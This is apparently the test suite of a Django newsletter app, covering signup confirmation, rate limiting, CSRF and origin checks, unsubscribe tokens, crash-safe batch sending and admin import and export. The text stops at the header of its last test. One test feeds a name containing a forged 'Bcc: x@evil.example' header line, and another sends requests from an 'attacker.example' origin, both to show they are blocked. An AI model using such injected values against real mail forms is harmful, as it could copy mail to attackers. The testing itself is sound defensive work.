import re
import threading
from datetime import timedelta

import pytest
from django_tasks_db.management.commands.db_worker import Worker

from django.contrib.auth.models import Group
from django.core import signing
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from newsletter import services
from newsletter.models import Campaign, Delivery, Subscriber
from newsletter.tokens import confirmation_token, unsubscribe_token
from tests.factories import (
    CampaignFactory,
    PostFactory,
    StaffFactory,
    SubscriberFactory,
)

LINK = re.compile(r"https?://[^\s<>\"]+/newsletter/confirm/[^\s<>\"/]+/")


def signup(client, email="reader@example.org", **extra):
    data = {"email": email, "name": "", "consent": "on", "source": "footer", **extra}
    return client.post(reverse("newsletter:signup"), data, **extra.pop("headers", {}))


def run_worker():
    """Run every queued task, as `manage.py db_worker --batch` does, in this process."""
    Worker(
        queue_names=["default"],
        interval=0,
        batch=True,
        backend_name="default",
        startup_delay=False,
        max_tasks=None,
        worker_id="test-worker",
        excluded_queue_names=[],
    ).run()


def text_part(message):
    return message.get_body(("plain",)).get_content()


# Subscribing -------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)  # the worker sends the confirmation
def test_signup_confirm_flow_through_real_smtp(client, smtp_server, settings):
    """Signup stores a pending subscriber, the email's link shows a button, its POST subscribes."""
    response = signup(client, "  Reader@Example.ORG ", name="Dara")
    assert response.status_code == 200
    assert "Please check your inbox" in response.content.decode()
    subscriber = Subscriber.objects.get()
    assert subscriber.email == "reader@example.org"
    assert subscriber.status == Subscriber.Status.PENDING
    assert (
        subscriber.consent_version == "2025-1" and "I agree" in subscriber.consent_text
    )
    assert subscriber.ip_address == "127.0.0.1" and subscriber.source == "footer"

    assert smtp_server.messages == []  # the worker sends it, not the visitor's request
    run_worker()
    assert len(smtp_server.messages) == 1
    message = smtp_server.messages[0]["message"]
    assert smtp_server.messages[0]["to"] == ["reader@example.org"]
    link = LINK.search(text_part(message)).group(0)
    assert link in message.get_body(("html",)).get_content()
    path = link.removeprefix(settings.SITE_URL)

    page = client.get(path)
    assert (
        page.status_code == 200 and "Confirm my subscription" in page.content.decode()
    )
    subscriber.refresh_from_db()
    assert (
        subscriber.status == Subscriber.Status.PENDING
    )  # a GET (link scanner) changes nothing

    done = client.post(path)
    assert "Subscription confirmed" in done.content.decode()
    subscriber.refresh_from_db()
    assert subscriber.status == Subscriber.Status.SUBSCRIBED and subscriber.confirmed_at
    again = client.post(path)
    assert again.status_code == 200 and "already confirmed" in again.content.decode()


@pytest.mark.django_db
def test_identical_answers_whatever_the_address_state(client, smtp_server):
    """New, pending, subscribed and unsubscribed addresses get byte-identical answers."""
    SubscriberFactory(email="pending@example.org", status="pending")
    SubscriberFactory(email="member@example.org")
    SubscriberFactory(email="left@example.org", status="unsubscribed")
    answers = []
    for email in [
        "new@example.org",
        "pending@example.org",
        "MEMBER@example.org",
        "left@example.org",
    ]:
        response = signup(client, email)
        answers.append((response.status_code, response.content.decode()))
    assert len(set(answers)) == 1 and answers[0][0] == 200
    assert Subscriber.objects.count() == 4
    assert Subscriber.objects.get(email="left@example.org").status == "pending"
    assert Subscriber.objects.get(email="member@example.org").status == "subscribed"


@pytest.mark.django_db
def test_fetch_signup_returns_the_fragment(client, mailoutbox):
    """With JavaScript the answer is the signup section alone, same for everyone."""
    response = client.post(
        reverse("newsletter:signup"),
        {"email": "a@example.org", "consent": "on", "source": "footer"},
        headers={"X-Requested-With": "fetch"},
    )
    html = response.content.decode()
    assert html.lstrip().startswith("<section") and "Please check your inbox" in html
    assert "<html" not in html


@pytest.mark.django_db
@pytest.mark.parametrize(
    "data, error",
    [
        (
            {"email": "not-an-address", "name": "Kim", "consent": "on"},
            "Enter an email address like",
        ),
        ({"email": "", "name": "Kim", "consent": "on"}, "Enter your email address."),
        ({"email": "kim@example.org", "name": "Kim"}, "Tick the box to agree"),
    ],
)
def test_bad_signup_shows_error_and_keeps_input(client, mailoutbox, data, error):
    response = client.post(reverse("newsletter:signup"), data)
    html = response.content.decode()
    assert response.status_code == 200 and error in html
    assert 'value="Kim"' in html
    if data["email"]:
        assert f'value="{data["email"]}"' in html
    assert not Subscriber.objects.exists() and not mailoutbox


@pytest.mark.django_db(transaction=True)  # the worker sends the confirmation
def test_confirmation_emails_per_address_are_limited(client, mailoutbox, settings):
    """Four signups of one address in a day send three confirmation emails."""
    settings.NEWSLETTER_CONFIRMATIONS_PER_DAY = 3
    for _ in range(4):
        assert signup(client, "same@example.org").status_code == 200
    run_worker()
    assert len(mailoutbox) == 3


@pytest.mark.django_db(transaction=True)  # the worker sends the confirmation
def test_a_name_cannot_add_lines_to_the_confirmation_email(client, mailoutbox):
    """The name greets the subscriber in the confirmation email: line breaks typed or
    forged into it become spaces, so it cannot start lines of its own there."""
    response = signup(client, "dara@example.org", name="Dara\r\nBcc: x@evil.example")
    assert response.status_code == 200
    assert Subscriber.objects.get().name == "Dara Bcc: x@evil.example"
    run_worker()
    (message,) = mailoutbox
    assert "\nBcc:" not in message.body and "Bcc" not in message.extra_headers
    assert not message.bcc


@pytest.mark.django_db
def test_signups_per_ip_are_rate_limited(client, mailoutbox, settings):
    settings.NEWSLETTER_SIGNUPS_PER_IP_PER_HOUR = 2
    assert signup(client, "one@example.org").status_code == 200
    assert signup(client, "two@example.org").status_code == 200
    blocked = signup(client, "three@example.org")
    assert blocked.status_code == 429
    assert "Too many signups" in blocked.content.decode()
    assert 'value="three@example.org"' in blocked.content.decode()
    assert not Subscriber.objects.filter(email="three@example.org").exists()
    other_ip = client.post(
        reverse("newsletter:signup"),
        {"email": "four@example.org", "consent": "on"},
        REMOTE_ADDR="10.0.0.9",
    )
    assert other_ip.status_code == 200


@pytest.mark.django_db
def test_signup_limits_count_each_visitor_behind_the_proxy(client, settings):
    """Behind TRUSTED_PROXY_COUNT proxies, one visitor's signups do not lock out the
    others who reach the app through the same proxy, and each consent records the
    visitor's address; a forged or malformed X-Forwarded-For changes nothing."""
    settings.TRUSTED_PROXY_COUNT = 1
    settings.NEWSLETTER_SIGNUPS_PER_IP_PER_HOUR = 2
    proxy = {"REMOTE_ADDR": "10.0.0.2"}

    def signup_from(email, forwarded_for):
        return client.post(
            reverse("newsletter:signup"),
            {"email": email, "consent": "on"},
            HTTP_X_FORWARDED_FOR=forwarded_for,
            **proxy,
        )

    assert signup_from("one@example.org", "203.0.113.7").status_code == 200
    assert signup_from("two@example.org", "203.0.113.7").status_code == 200
    assert signup_from("three@example.org", "203.0.113.7").status_code == 429
    assert signup_from("four@example.org", "198.51.100.4").status_code == 200
    assert Subscriber.objects.get(email="four@example.org").ip_address == (
        "198.51.100.4"
    )
    # Not an address: the proxy's own is recorded, never an error.
    assert signup_from("five@example.org", "not-an-ip").status_code == 200
    assert Subscriber.objects.get(email="five@example.org").ip_address == "10.0.0.2"


@pytest.mark.django_db
def test_expired_and_tampered_confirmation_links_show_a_clear_page(client, settings):
    subscriber = SubscriberFactory(status="pending")
    token = confirmation_token(subscriber)
    tampered = client.get(reverse("newsletter:confirm", args=[token[:-2] + "xx"]))
    assert (
        tampered.status_code == 400
        and "This link does not work" in tampered.content.decode()
    )
    assert "Subscribe" in tampered.content.decode()  # the form to ask for a new link
    assert (
        client.post(reverse("newsletter:confirm", args=["garbage"])).status_code == 400
    )
    settings.NEWSLETTER_CONFIRM_MAX_AGE = -1
    expired = client.post(reverse("newsletter:confirm", args=[token]))
    assert expired.status_code == 400
    subscriber.refresh_from_db()
    assert subscriber.status == "pending"


@pytest.mark.django_db
def test_old_confirmation_link_cannot_resubscribe_after_leaving(client):
    subscriber = SubscriberFactory(status="pending")
    token = confirmation_token(subscriber)
    client.post(
        reverse("newsletter:unsubscribe", args=[unsubscribe_token(subscriber.pk)])
    )
    assert client.post(reverse("newsletter:confirm", args=[token])).status_code == 400
    subscriber.refresh_from_db()
    assert subscriber.status == "unsubscribed"


@pytest.mark.django_db
def test_unsubscribe_get_shows_button_post_unsubscribes_without_csrf(settings):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    subscriber = SubscriberFactory()
    url = reverse("newsletter:unsubscribe", args=[unsubscribe_token(subscriber.pk)])
    assert "Unsubscribe" in client.get(url).content.decode()
    subscriber.refresh_from_db()
    assert subscriber.status == "subscribed"
    response = client.post(url, {"List-Unsubscribe": "One-Click"})
    assert response.status_code == 200
    subscriber.refresh_from_db()
    assert subscriber.status == "unsubscribed" and subscriber.unsubscribed_at
    assert client.post(url).status_code == 200  # twice is harmless
    assert (
        client.post(reverse("newsletter:unsubscribe", args=["forged"])).status_code
        == 400
    )
    # The confirmation form still needs its CSRF token.
    pending = SubscriberFactory(status="pending")
    assert (
        client.post(
            reverse("newsletter:confirm", args=[confirmation_token(pending)])
        ).status_code
        == 403
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 200),  # no browser metadata at all: not a cross-site form
        ({"HTTP_SEC_FETCH_SITE": "same-origin"}, 200),
        (
            {"HTTP_SEC_FETCH_SITE": "same-origin", "HTTP_ORIGIN": "http://testserver"},
            200,
        ),
        ({"HTTP_ORIGIN": "http://testserver"}, 200),
        ({"HTTP_ORIGIN": "https://portal.example.org"}, 200),  # in CSRF_TRUSTED_ORIGINS
        ({"HTTP_SEC_FETCH_SITE": "cross-site"}, 403),
        (
            {"HTTP_SEC_FETCH_SITE": "cross-site", "HTTP_ORIGIN": "http://testserver"},
            403,
        ),
        (
            {
                "HTTP_SEC_FETCH_SITE": "same-site",
                "HTTP_ORIGIN": "https://other.example.org",
            },
            403,
        ),
        ({"HTTP_ORIGIN": "https://attacker.example"}, 403),
        ({"HTTP_ORIGIN": "null"}, 403),
    ],
)
def test_signup_needs_no_token_but_refuses_other_sites(settings, headers, status):
    """No per-visitor token (so reading pages sets no cookie); a browser's cross-site POST is refused."""
    from django.test import Client

    settings.CSRF_TRUSTED_ORIGINS = ["https://portal.example.org"]
    response = Client(enforce_csrf_checks=True).post(
        reverse("newsletter:signup"),
        {"email": "Typed@Example.org", "name": "Dara", "consent": "on"},
        **headers,
    )
    assert response.status_code == status
    assert Subscriber.objects.filter(email="typed@example.org").exists() is (
        status == 200
    )
    if status == 403:
        html = response.content.decode()
        assert "sent from another web site" in html and "nothing was saved" in html
        assert (
            'value="Typed@Example.org"' in html and 'value="Dara"' in html
        )  # what was typed is kept


@pytest.mark.django_db
def test_reading_pages_sets_no_cookie(client):
    """Readers get no cookie at all, on a page with a comment form too (it carries no CSRF token)."""
    post = PostFactory(allow_comments=True)
    for url in [
        "/",
        "/posts/",
        "/publications/",
        "/search/?q=hotline",
        reverse("newsletter:page"),
        "/safety/",
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert not response.cookies, (url, response.cookies)
        assert "csrfmiddlewaretoken" not in response.content.decode(), url
    post_page = client.get(post.get_absolute_url())
    assert 'id="comment-form"' in post_page.content.decode() and not post_page.cookies


@pytest.mark.django_db(transaction=True)  # the worker sends the confirmation
def test_resubscribe_after_leaving_needs_a_new_confirmation(client, mailoutbox):
    subscriber = SubscriberFactory(email="back@example.org", status="unsubscribed")
    signup(client, "back@example.org")
    run_worker()
    subscriber.refresh_from_db()
    assert subscriber.status == "pending" and len(mailoutbox) == 1


@pytest.mark.django_db
def test_purge_erases_old_ips_only():
    old = SubscriberFactory(
        ip_address="192.0.2.1", consented_at=timezone.now() - timedelta(days=40)
    )
    recent = SubscriberFactory(ip_address="192.0.2.2")
    from django.core.management import call_command

    call_command("newsletter_purge_ips")
    old.refresh_from_db()
    recent.refresh_from_db()
    assert old.ip_address is None and recent.ip_address == "192.0.2.2"


@pytest.mark.django_db
def test_case_insensitive_unique_constraint():
    from django.db import IntegrityError

    SubscriberFactory(email="dup@example.org")
    with pytest.raises(IntegrityError):
        Subscriber.objects.bulk_create(
            [
                Subscriber(
                    email="DUP@example.org",
                    source="footer",
                    consent_version="x",
                    consent_text="x",
                )
            ]
        )


@pytest.mark.django_db(transaction=True)
def test_concurrent_signups_of_one_address_leave_one_row(mailoutbox):
    """20 simultaneous signups of one address: one row, no error (PostgreSQL)."""
    if connection.vendor != "postgresql":
        pytest.skip("concurrency needs PostgreSQL")
    barrier, errors = threading.Barrier(20), []

    def attempt():
        from django.db import connection as thread_connection

        try:
            barrier.wait()
            services.subscriber_subscribe(email="Race@Example.org", source="footer")
        except Exception as error:  # noqa: BLE001
            errors.append(error)
        finally:
            thread_connection.close()

    threads = [threading.Thread(target=attempt) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert Subscriber.objects.filter(email__iexact="race@example.org").count() == 1


@pytest.mark.django_db
def test_signup_finds_an_address_through_the_unique_index():
    """The lookup of an address in any case uses the lower(email) index, not a table scan."""
    SubscriberFactory(email="known@example.org")
    assert (
        Subscriber.objects.with_email(" Known@Example.ORG ").get().email
        == "known@example.org"
    )
    if connection.vendor == "postgresql":
        plan = (
            Subscriber.objects.with_email("known@example.org")
            .order_by("pk")[:1]
            .explain()
        )
        assert "newsletter_subscriber_email_ci_unique" in plan


# Pages -----------------------------------------------------------------------


@pytest.mark.django_db
def test_footer_form_on_every_page_and_nav_link(client):
    post = PostFactory()
    for url in [
        reverse("home"),
        post.get_absolute_url(),
        reverse("newsletter:archive"),
    ]:
        html = client.get(url).content.decode()
        assert (
            'action="/newsletter/subscribe/"' in html and "I agree to receive" in html
        )
        assert 'href="/newsletter/"' in html


@pytest.mark.django_db
def test_newsletter_page_explains_and_links_archive(client):
    CampaignFactory(subject="March edition", status="sent", sent_at=timezone.now())
    html = client.get(reverse("newsletter:page")).content.decode()
    assert "No tracking" in html and "March edition" in html
    assert reverse("newsletter:archive") in html
    assert 'name="source" value="page"' in html


@pytest.mark.django_db
def test_archive_shows_only_sent_campaigns(client):
    sent = CampaignFactory(
        subject="Sent edition", status="sent", sent_at=timezone.now()
    )
    draft = CampaignFactory(subject="Draft edition")
    html = client.get(reverse("newsletter:archive")).content.decode()
    assert "Sent edition" in html and "Draft edition" not in html
    assert client.get(sent.get_absolute_url()).status_code == 200
    assert client.get(draft.get_absolute_url()).status_code == 404
    client.force_login(StaffFactory(is_superuser=True))
    preview = client.get(draft.get_absolute_url())
    assert preview.status_code == 200 and "no-cache" in preview["Cache-Control"]


@pytest.mark.django_db
@pytest.mark.parametrize("count", [3, 30])
def test_archive_query_count_is_constant(client, django_assert_num_queries, count):
    for _ in range(count):
        CampaignFactory(status="sent", sent_at=timezone.now())
    with django_assert_num_queries(2):  # count, page
        client.get(reverse("newsletter:archive"))


# Campaign sending --------------------------------------------------------------


def _send_to(count, **campaign_fields):
    subscribers = SubscriberFactory.create_batch(count)
    campaign = CampaignFactory(**campaign_fields)
    assert services.campaign_send(campaign=campaign)
    return campaign, subscribers


@pytest.mark.django_db(transaction=True)
def test_campaign_to_200_subscribers_exactly_once_with_one_click_unsubscribe(
    client, smtp_server, settings
):
    settings.NEWSLETTER_BATCH_SIZE = 50
    SubscriberFactory(status="pending", email="pending@example.org")
    SubscriberFactory(status="unsubscribed", email="left@example.org")
    campaign, subscribers = _send_to(200)
    run_worker()
    received = [entry["to"][0] for entry in smtp_server.messages]
    assert sorted(received) == sorted(s.email for s in subscribers)  # exactly once each
    campaign.refresh_from_db()
    assert (
        campaign.status == "sent"
        and campaign.sent_count == 200
        and campaign.recipient_count == 200
    )
    message = smtp_server.messages[17]["message"]
    assert message["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    link = message["List-Unsubscribe"].strip().strip("<>")
    assert link.startswith("http") and "/newsletter/unsubscribe/" in link
    assert (
        link in text_part(message) and link in message.get_body(("html",)).get_content()
    )
    assert campaign.get_absolute_url() in text_part(message)  # view in browser
    html = message.get_body(("html",)).get_content()
    assert 'style="' in html and f"{settings.SITE_URL}/posts/" in html
    # One-click: what a mailbox provider sends, without cookies or CSRF token.
    from django.test import Client

    response = Client(enforce_csrf_checks=True).post(
        link.removeprefix(settings.SITE_URL),
        "List-Unsubscribe=One-Click",
        content_type="application/x-www-form-urlencoded",
    )
    assert response.status_code == 200
    recipient = Subscriber.objects.get(email=smtp_server.messages[17]["to"][0])
    assert recipient.status == "unsubscribed"


@pytest.mark.django_db(transaction=True)
def test_no_tracking_in_campaign_email(smtp_server):
    campaign, _subscribers = _send_to(
        1, body='<p><a href="https://example.org/x">x</a></p>'
    )
    run_worker()
    html = smtp_server.messages[0]["message"].get_body(("html",)).get_content()
    assert 'href="https://example.org/x"' in html  # links not redirected
    assert html.count("<img") == 0  # no pixel


class WorkerKilled(BaseException):
    """Stands for SIGKILL: nothing in the worker gets to clean up."""


@pytest.mark.django_db(transaction=True)
def test_worker_killed_mid_batch_and_restarted_delivers_exactly_once(
    smtp_server, settings, monkeypatch
):
    """A worker dies after 30 of a 50-row batch; after the lease, the rest go out once."""
    settings.NEWSLETTER_BATCH_SIZE = 50
    campaign, subscribers = _send_to(120)
    import newsletter.sending as sending

    original_mark = sending.BatchSender.mark_sent
    marks = {"n": 0}

    def mark_then_die(self, delivery):
        original_mark(self, delivery)
        marks["n"] += 1
        if marks["n"] == 30:
            raise WorkerKilled

    monkeypatch.setattr(sending.BatchSender, "mark_sent", mark_then_die)
    # The in-process worker records the task as failed; a killed one would leave it
    # running. Either way the successor was queued before sending began.
    Worker(
        queue_names=["default"],
        interval=0,
        batch=True,
        backend_name="default",
        startup_delay=False,
        max_tasks=1,
        worker_id="dies",
        excluded_queue_names=[],
    ).run()
    monkeypatch.setattr(sending.BatchSender, "mark_sent", original_mark)
    assert len(smtp_server.messages) == 30
    assert (
        Delivery.objects.filter(status="pending").exclude(claimed_by="").count() == 20
    )
    # Restarted before the lease expires: other rows go, the dead claim waits.
    run_worker()
    assert len(smtp_server.messages) == 100
    # The lease runs out; the successor queued as a watchdog takes the rest.
    Delivery.objects.exclude(claimed_by="").update(
        claimed_until=timezone.now() - timedelta(seconds=1)
    )
    from django_tasks_db.models import DBTaskResult

    DBTaskResult.objects.filter(status="READY").update(run_after=timezone.now())
    run_worker()
    received = [entry["to"][0] for entry in smtp_server.messages]
    assert sorted(received) == sorted(s.email for s in subscribers)
    campaign.refresh_from_db()
    assert campaign.status == "sent" and campaign.sent_count == 120
    # The first unmarked row of the dead claim is flagged as possibly in flight.
    assert Delivery.objects.filter(is_resent_after_crash=True).count() == 1


@pytest.mark.django_db(transaction=True)
def test_sigterm_mid_batch_stops_cleanly_and_restart_finishes(
    smtp_server, settings, monkeypatch
):
    """A stop request lets the current message finish, releases the rest of the batch."""
    settings.NEWSLETTER_BATCH_SIZE = 80
    campaign, subscribers = _send_to(100)
    import newsletter.sending as sending

    original_mark = sending.BatchSender.mark_sent
    calls = {"n": 0}

    def mark_and_maybe_signal(self, delivery):
        original_mark(self, delivery)
        calls["n"] += 1
        if calls["n"] == 25:
            self.stop_flag.signals.append((15, None))

    original_run = sending.BatchSender.run

    def run(self, stop):
        self.stop_flag = stop
        return original_run(self, stop)

    monkeypatch.setattr(sending.BatchSender, "mark_sent", mark_and_maybe_signal)
    monkeypatch.setattr(sending.BatchSender, "run", run)
    worker = Worker(
        queue_names=["default"],
        interval=0,
        batch=True,
        backend_name="default",
        startup_delay=False,
        max_tasks=None,
        worker_id="w1",
        excluded_queue_names=[],
    )
    worker.configure_signals()  # as `manage.py db_worker` does
    try:
        worker.run()
    finally:
        worker.reset_signals()
    assert worker.running is False  # the held signal reached the worker, which stopped
    assert len(smtp_server.messages) == 25
    assert not Delivery.objects.filter(status="pending").exclude(claimed_by="").exists()
    monkeypatch.setattr(sending.BatchSender, "mark_sent", original_mark)
    run_worker()
    received = sorted(entry["to"][0] for entry in smtp_server.messages)
    assert received == sorted(s.email for s in subscribers)


@pytest.mark.django_db(transaction=True)
def test_unsubscribed_mid_send_receive_nothing_more(smtp_server, settings):
    settings.NEWSLETTER_BATCH_SIZE = 10
    campaign, subscribers = _send_to(30)
    leaver = subscribers[25]
    services.subscriber_unsubscribe(subscriber=leaver)
    run_worker()
    received = [entry["to"][0] for entry in smtp_server.messages]
    assert leaver.email not in received and len(received) == 29
    assert Delivery.objects.get(subscriber=leaver).status == "cancelled"
    campaign.refresh_from_db()
    assert campaign.status == "sent"


@pytest.mark.django_db(transaction=True)
def test_temporary_failure_retried_permanent_failure_recorded(settings):
    """A 4xx answer is retried later; a 5xx answer fails the delivery for good."""
    from aiosmtpd.controller import Controller

    from tests.conftest import SMTPRecorder, free_port

    class Picky(SMTPRecorder):
        busy = True

        async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
            if address.startswith("bounce"):
                return "550 5.1.1 No such user"
            if address.startswith("busy") and self.busy:
                return "451 4.3.0 Try again later"
            envelope.rcpt_tos.append(address)
            return "250 OK"

    handler = Picky()
    controller = Controller(handler, hostname="127.0.0.1", port=free_port())
    controller.start()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", controller.port
    try:
        SubscriberFactory(email="bounce@example.org")
        SubscriberFactory(email="busy@example.org")
        SubscriberFactory(email="fine@example.org")
        campaign = CampaignFactory()
        services.campaign_send(campaign=campaign)
        run_worker()
        assert [m["to"] for m in handler.messages] == [["fine@example.org"]]
        bounce = Delivery.objects.get(subscriber__email="bounce@example.org")
        assert bounce.status == "failed" and "550" in bounce.error
        busy = Delivery.objects.get(subscriber__email="busy@example.org")
        assert (
            busy.status == "pending"
            and busy.attempts == 1
            and busy.next_attempt_at > timezone.now()
        )
        campaign.refresh_from_db()
        assert campaign.status == "sending"
        handler.busy = False
        Delivery.objects.filter(pk=busy.pk).update(next_attempt_at=timezone.now())
        from django_tasks_db.models import DBTaskResult

        DBTaskResult.objects.filter(status="READY").update(run_after=timezone.now())
        run_worker()
        busy.refresh_from_db()
        assert busy.status == "sent"
        campaign.refresh_from_db()
        assert (
            campaign.status == "sent"
            and campaign.failed_count == 1
            and campaign.sent_count == 2
        )
    finally:
        controller.stop()


@pytest.mark.django_db(transaction=True)
def test_smtp_server_down_defers_and_nothing_is_lost(settings):
    from tests.conftest import free_port

    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", free_port()
    campaign, _subscribers = _send_to(5)
    run_worker()
    assert Delivery.objects.filter(status="pending", attempts=1).count() == 5
    campaign.refresh_from_db()
    assert campaign.status == "sending"


@pytest.mark.django_db
def test_campaign_send_twice_queues_once():
    SubscriberFactory.create_batch(3)
    campaign = CampaignFactory()
    assert services.campaign_send(campaign=campaign) is True
    assert services.campaign_send(campaign=campaign) is False
    assert Delivery.objects.count() == 3


# Admin ---------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_admin_send_test_and_confirmation_page(client, smtp_server):
    SubscriberFactory.create_batch(4)
    SubscriberFactory(status="pending")
    manager = StaffFactory(is_superuser=True, email="manager@example.org")
    client.force_login(manager)
    campaign = CampaignFactory(subject="May edition")
    changelist = reverse("admin:newsletter_campaign_changelist")
    client.post(changelist, {"action": "send_test", "_selected_action": [campaign.pk]})
    assert [m["to"] for m in smtp_server.messages] == [["manager@example.org"]]
    assert smtp_server.messages[0]["message"]["Subject"] == "[Test] May edition"
    response = client.post(
        changelist,
        {"action": "send_to_subscribers", "_selected_action": [campaign.pk]},
        follow=True,
    )
    html = response.content.decode()
    assert "4 confirmed subscribers" in html
    campaign.refresh_from_db()
    assert campaign.status == "draft"  # nothing sent before confirming
    client.post(
        reverse("admin:newsletter_campaign_send", args=[campaign.pk]),
        {"confirm": "yes"},
    )
    campaign.refresh_from_db()
    assert campaign.status == "sending" and campaign.recipient_count == 4
    page = client.get(
        reverse("admin:newsletter_campaign_change", args=[campaign.pk])
    ).content.decode()
    assert "<progress" in page and "remaining 4 of 4" in page
    run_worker()
    page = client.get(
        reverse("admin:newsletter_campaign_change", args=[campaign.pk])
    ).content.decode()
    assert "sent 4, failed 0" in page


@pytest.mark.django_db
def test_csv_export_only_for_newsletter_managers(client):
    SubscriberFactory(email="listed@example.org", name="Listed")
    url = reverse("admin:newsletter_subscriber_export")
    editor = StaffFactory(groups=["Editors"])
    client.force_login(editor)
    assert client.get(url).status_code == 403
    client.force_login(StaffFactory(groups=["Newsletter managers"]))
    response = client.get(url)
    body = b"".join(response.streaming_content).decode()
    assert (
        response.status_code == 200 and "listed@example.org,Listed,subscribed" in body
    )
    assert (
        Group.objects.get(name="Newsletter managers")
        .permissions.filter(codename="export_subscriber")
        .exists()
    )


@pytest.mark.django_db
@pytest.mark.parametrize("count", [5, 50])
def test_subscriber_changelist_query_count_is_constant(
    client, django_assert_max_num_queries, count
):
    SubscriberFactory.create_batch(count)
    client.force_login(StaffFactory(is_superuser=True))
    with django_assert_max_num_queries(8):
        assert (
            client.get(reverse("admin:newsletter_subscriber_changelist")).status_code
            == 200
        )


def _import(client, content):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        reverse("admin:newsletter_subscriber_import"),
        {"file": SimpleUploadedFile("list.csv", content, content_type="text/csv")},
    )


@pytest.mark.django_db
def test_csv_import_all_or_nothing_with_line_numbers_and_no_duplicates(client):
    client.force_login(StaffFactory(groups=["Newsletter managers"]))
    SubscriberFactory(email="left@example.org", status="unsubscribed")
    bad = (
        b"email,name,consent_source\n"
        b"ok@example.org,Ok,Paper form 2024\n"
        b"not-an-email,Bad,Paper form 2024\n"
        b"nosource@example.org,No source,\n"
        b"OK@example.org,Twice,Paper form 2024\n"
    )
    response = _import(client, bad)
    html = response.content.decode()
    assert response.status_code == 400 and "Nothing was imported" in html
    assert (
        "<td>3</td><td>not-an-email</td>" in html
        and "<td>4</td>" in html
        and "<td>5</td>" in html
    )
    assert "Repeats line 2" in html
    assert not Subscriber.objects.filter(email="ok@example.org").exists()

    good = "\ufeffemail,name,consent_source,consented_at\nok@example.org,Ok,Paper form,2024-05-02\nLEFT@example.org,,Paper form,\n".encode()
    response = _import(client, good)
    assert response.status_code == 200
    ok = Subscriber.objects.get(email="ok@example.org")
    assert (
        ok.status == "subscribed"
        and ok.consent_source == "Paper form"
        and ok.consented_at.year == 2024
    )
    assert (
        Subscriber.objects.get(email="left@example.org").status == "unsubscribed"
    )  # never resubscribed
    _import(client, good)  # again: no duplicates
    assert Subscriber.objects.filter(email="ok@example.org").count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    "content, message",
    [
        (b"mail,source\nx@example.org,y\n", "missing: consent_source, email"),
        (
            "email,consent_source\nnoël@example.org,form\n".encode("latin-1"),
            "not UTF-8",
        ),
    ],
)
def test_csv_import_rejects_bad_files(client, content, message):
    client.force_login(StaffFactory(groups=["Newsletter managers"]))
    response = _import(client, content)
    assert response.status_code == 400 and message in response.content.decode()
    assert not Subscriber.objects.exists()


def test_tokens_are_signed():
    token = unsubscribe_token(42)
    assert signing.loads(token, salt="newsletter.unsubscribe") == 42


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "th"])
def test_fast_message_bytes_match_the_full_build(settings, language):
    """The per-recipient template gives the same message as the email package, in
    each language's frame (Thai text travels as 8bit too)."""
    from email import message_from_bytes
    from email.policy import default

    from newsletter.emails import CampaignEmail

    long_paragraph = (
        "<p>" + " ".join(["Referral across borders improved."] * 60) + "</p>"
    )
    campaign = CampaignFactory(
        body=long_paragraph + '<ul><li>One</li><li><a href="/posts/">Two</a></li></ul>'
    )
    email = CampaignEmail(campaign)
    fast = message_from_bytes(
        email.message_bytes(
            email="reader@example.org",
            subscriber_id=7,
            delivery_id=3,
            language=language,
        ),
        policy=default,
    )
    assert email.frame(language).template  # the shortcut was used
    full = email.message(
        email="reader@example.org", subscriber_id=7, delivery_id=3, language=language
    ).message()
    full = message_from_bytes(full.as_bytes(linesep="\r\n"), policy=default)
    for header in [
        "To",
        "Subject",
        "Message-ID",
        "List-Unsubscribe",
        "List-Unsubscribe-Post",
        "List-Id",
    ]:
        assert fast[header].strip() == full[header].strip(), header
    assert (
        fast.get_body(("plain",)).get_content()
        == full.get_body(("plain",)).get_content()
    )
    assert (
        fast.get_body(("html",)).get_content() == full.get_body(("html",)).get_content()
    )
    assert "- One" in fast.get_body(("plain",)).get_content()
    assert (
        f"/{language}/newsletter/language/" in fast.get_body(("plain",)).get_content()
        or language == "en"
    )
    assert (
        max(
            len(line)
            for line in email.message_bytes(
                email="r@example.org", subscriber_id=1, delivery_id=1, language=language
            ).split(b"\r\n")
        )
        < 998
    )


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_browser_signup_in_footer_then_confirm_from_email(
    page, live_server, smtp_server, settings, screenshot
):
    """Sign up in the footer of a post (in place, with JS), follow the emailed link, confirm."""
    settings.SITE_URL = live_server.url
    post = PostFactory(title="Helpline now open at night")
    page.goto(live_server.url + post.get_absolute_url())
    footer = page.locator("footer [data-signup]")
    footer.get_by_label("Email address").fill("browser@example.org")
    footer.get_by_label("Name (optional)").fill("Mai")
    footer.get_by_label("I agree to receive").check()
    screenshot(page, "newsletter-1-footer-filled")
    footer.get_by_role("button", name="Subscribe").click()
    page.locator("footer [data-signup-status]").wait_for()
    assert page.url == live_server.url + post.get_absolute_url()  # answered in place
    assert "Please check your inbox" in page.locator("footer").inner_text()
    screenshot(page, "newsletter-2-footer-answer")

    run_worker()  # the confirmation is the worker's job
    assert len(smtp_server.messages) == 1
    link = LINK.search(text_part(smtp_server.messages[0]["message"])).group(0)
    page.goto(link)
    screenshot(page, "newsletter-3-confirm-page")
    page.get_by_role("button", name="Confirm my subscription").click()
    page.get_by_role("heading", name="Subscription confirmed").wait_for()
    screenshot(page, "newsletter-4-confirmed")
    assert Subscriber.objects.get(email="browser@example.org").status == "subscribed"


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_browser_signup_without_javascript_and_with_errors(
    browser, live_server, mailoutbox, screenshot
):
